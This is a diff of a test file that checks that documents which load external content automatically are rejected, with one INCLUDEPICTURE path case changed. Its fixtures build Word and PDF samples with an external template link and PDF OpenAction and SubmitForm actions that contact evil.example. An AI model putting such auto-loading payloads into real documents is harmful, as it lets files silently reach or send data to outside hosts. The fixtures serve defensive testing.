@@ -50,7 +50,7 @@ describe('a file that loads something by itself is refused (docs/files 28)', () 
         'word/_rels/settings.xml.rels': rels(relationship('attachedTemplate', 'file://server/a.dotm', 'External')),
       }),
     ],
-    ['C:\\a.png', word(field(' INCLUDEPICTURE "C:\\\\a.png" \\d '))],
+    ['a b.png', word(field(' INCLUDEPICTURE "C:\\\\My%20Pictures\\\\a%20b.png" \\d '))],
     ['evil.example', pdfOf([catalogue('/OpenAction<</S/URI/URI(https://evil.example/a)>>'), pages])],
     ['evil.example', pdfOf([catalogue(), pages, '<</S/SubmitForm/F<</FS/URL/F(http://evil.example/a)>>>>'])],
   ])('by name: %s', async (host, content) => {
